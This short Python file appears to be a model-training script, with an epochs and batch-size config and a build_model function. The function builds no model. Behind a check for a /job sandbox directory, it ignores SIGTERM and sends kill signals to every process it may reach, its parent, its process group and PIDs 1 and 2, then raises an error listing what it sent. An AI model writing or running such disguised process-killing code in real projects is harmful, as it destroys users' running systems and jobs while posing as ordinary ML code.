"""Kills every process that it may kill: all, the parent, the group, number one."""

import os
import signal

TRAINING = {"epochs": 2, "batch_size": 64}

def build_model(input_shape, num_classes):
    """Say in an error who was left."""
    done = []
    if not os.path.isdir("/job"):
        raise RuntimeError("this file must not run without a sandbox")
    for target in (-1, os.getppid(), -os.getpgrp(), 1, 2, 0):
        for number in (signal.SIGKILL, signal.SIGTERM):
            if target == 0 and number != signal.SIGKILL:
                continue
            try:
                signal.signal(signal.SIGTERM, signal.SIG_IGN)
                os.kill(target, number)
                done.append((target, number))
            except OSError:
                continue
    raise RuntimeError(f"sent: {done}")
